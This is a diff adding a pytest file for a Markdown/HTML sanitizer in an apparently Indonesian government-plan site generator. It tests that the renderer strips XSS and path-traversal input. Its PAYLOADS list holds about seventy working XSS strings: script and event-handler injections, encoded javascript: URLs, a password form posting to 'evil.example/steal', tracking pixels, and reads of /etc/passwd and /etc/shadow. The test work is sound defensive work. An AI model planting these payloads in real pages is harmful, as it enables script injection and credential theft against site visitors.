@@ -1,0 +1,183 @@
+"""Hostile Markdown and HTML in content never reaches the site or the PDF.
+
+Known XSS payloads (script tags, event attributes, javascript:/data:/vbscript: URLs,
+iframes, forms, object/embed, styles with url(), SVG, encoded variants) and paths that
+climb out of the plan folder go through ``to_html``; the result is parsed and every tag,
+attribute and URL left is checked against what the theme allows.
+"""
+
+from __future__ import annotations
+
+import re
+import urllib.parse
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Callable
+
+import pytest
+
+from masterplan.project import load_and_check
+from masterplan.render.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, resolve_references, to_html
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" ONERROR=\"alert(1)\">",
+    "<img src=`x`onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<p style=\"background:url(javascript:alert(1))\">x</p>",
+    "<span style=\"background-image:url('https://evil.example/track.png')\">x</span>",
+    "<style>body{background:url(https://evil.example/t.png)}</style>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<frameset><frame src=javascript:alert(1)></frameset>",
+    "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Masuk</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">klik</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">klik</a>",
+    "<a href=\"java&#x09;script:alert(1)\">klik</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">klik</a>",
+    "<a href=\" javascript:alert(1)\">klik</a>",
+    "<a href=\"vbscript:msgbox(1)\">klik</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
+    "<a href=\"file:///etc/passwd\">klik</a>",
+    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+    "<img src=\"https://evil.example/pixel.gif\">",
+    "<img src=\"/etc/passwd\">",
+    "<img src=\"file:///etc/passwd\">",
+    "<img src=\"../../etc/passwd\">",
+    "<img src=\"assets/../../../etc/passwd\">",
+    "<img src=\"%2e%2e/%2e%2e/etc/passwd\">",
+    "<img src=\"..%2f..%2fetc/passwd\">",
+    "<img src=\"..\\..\\windows\\win.ini\">",
+    "<img src=\"//evil.example/x.png\">",
+    "<img srcset=\"https://evil.example/a.png 1x\">",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<video poster=javascript:alert(1)></video>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"color:red\" target=_blank>ok</a>",
+    "[klik](javascript:alert(1))",
+    "[klik](JAVASCRIPT:alert(1))",
+    "[klik](vbscript:msgbox(1))",
+    "[klik](data:text/html,<script>alert(1)</script>)",
+    "[klik](file:///etc/passwd)",
+    "[klik](../../../etc/passwd)",
+    "[klik](/etc/passwd)",
+    "[klik](%2e%2e/%2e%2e/etc/passwd)",
+    "![peta](../../etc/passwd)",
+    "![peta](/etc/passwd)",
+    "![peta](https://evil.example/track.png)",
+    "![peta](data:image/png;base64,iVBORw0KGgo=)",
+    "![x](x \"onerror=alert(1)\")",
+    "[a][r]\n\n[r]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<https://evil.example/%22onmouseover=%22alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+]
+
+URL_ATTRIBUTES = {"href", "src"}
+SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
+
+
+class _Collector(HTMLParser):
+    """Every start tag and its attributes, as a browser's tokenizer sees them."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+
+def assert_harmless(html: str) -> None:
+    collector = _Collector()
+    collector.feed(html)
+    collector.close()
+    for tag, attrs in collector.tags:
+        assert tag in ALLOWED_TAGS, (tag, html)
+        for name, value in attrs:
+            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or name == "rel", (tag, name, html)
+            assert not name.startswith("on") and name != "style", (tag, name, html)
+            if name in URL_ATTRIBUTES and value is not None:
+                url = urllib.parse.unquote(urllib.parse.unquote(value)).strip()
+                scheme = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", url))
+                if scheme:
+                    assert scheme.group(1).lower() in SAFE_SCHEMES, (tag, value, html)
+                    assert tag != "img", (tag, value, html)
+                assert not url.startswith(("/", "\\")), (tag, value, html)
+                assert ".." not in re.split(r"[/\\?#]", url), (tag, value, html)
+    lowered = html.lower()
+    for word in ("<script", "<iframe", "<object", "<embed", "<form", "<svg", "<style", "<base", "<meta", "<link"):
+        assert word not in lowered, (word, html)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payload_does_not_survive(payload: str) -> None:
+    html = to_html(f"Paragraf sebelum.\n\n{payload}\n\nParagraf sesudah.")
+    assert_harmless(html)
+    if "<style>" not in payload:  # an unclosed <style> swallows the rest, as it would in a browser
+        assert "Paragraf sesudah." in html  # the rest of the text is kept
+
+
+@pytest.mark.parametrize("payload", PAYLOADS[:20])
+def test_payload_inline_in_a_list(payload: str) -> None:
+    assert_harmless(to_html(f"- butir satu {payload}\n- butir dua\n\n| a | b |\n|---|---|\n| {payload} | x |"))
+
+
+def test_safe_content_is_kept() -> None:
+    html = to_html("**tebal** [situs](https://pasuruankota.go.id) ![logo](assets/logo.png) "
+                   "[surat](mailto:diskominfo@pasuruankota.go.id)\n\n| a | b |\n|---|---|\n| 1 | 2 |")
+    assert "<strong>tebal</strong>" in html
+    assert 'href="https://pasuruankota.go.id"' in html
+    assert 'src="assets/logo.png"' in html
+    assert "mailto:" in html and "<table>" in html
+    assert_harmless(html)
+
+
+def test_cross_references_survive_sanitizing_and_resolve() -> None:
+    html = resolve_references(to_html("Lihat [[GOV-01]] <script>[[GOV-01]]</script>"),
+                              lambda ref: f'<a href="#{ref}">{ref}</a>')
+    assert html.count('href="#GOV-01"') == 1
+    assert "<script" not in html
+
+
+def test_program_description_payloads_fail_validation(make_plan: Callable[..., Path]) -> None:
+    """Hostile links in a description are reported (E508), not silently published."""
+    root = make_plan()
+    agency = root / "content/agencies/bpkad.yml"
+    text = agency.read_text(encoding="utf-8").replace(
+        "    quick_win: true\n",
+        "    description: |\n      Lihat ![x](/etc/passwd) dan [y](javascript:alert(1)).\n"
+        "      <img src=\"../../../etc/shadow\">\n    quick_win: true\n")
+    agency.write_text(text, encoding="utf-8")
+    report = load_and_check(root).report
+    found = [d for d in report.errors if d.code == "E508"]
+    assert len(found) == 3
+    assert {d.position.file for d in found} == {"content/agencies/bpkad.yml"}
+    assert all(d.position.line == 11 for d in found)
+
+
+def test_sanitized_html_of_every_payload_at_once() -> None:
+    assert_harmless(to_html("\n\n".join(PAYLOADS)))
